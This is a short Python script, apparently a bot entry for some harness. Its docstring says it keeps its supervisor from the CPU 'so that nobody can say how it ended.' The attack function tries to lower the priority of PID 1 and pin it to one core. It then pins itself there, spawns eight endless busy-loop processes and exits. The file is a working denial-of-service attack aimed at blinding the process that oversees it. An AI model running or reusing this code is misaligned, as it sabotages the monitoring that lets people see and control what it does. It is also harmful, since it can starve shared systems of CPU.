"""A bot that keeps its supervisor from the CPU, so that nobody can say how it ended."""

import os
import subprocess
import sys
import time


def attack(turn):
    cpu = {min(os.sched_getaffinity(0))}
    for act, *words in ((os.setpriority, os.PRIO_PROCESS, 1, 19), (os.sched_setaffinity, 1, cpu)):
        try:
            act(*words)
        except OSError:
            pass
    os.sched_setaffinity(0, cpu)
    for _ in range(8):
        subprocess.Popen([sys.executable, "-I", "-S", "-c", "while True: pass"])
    time.sleep(0.3)
    print("my last words")
    os._exit(5)
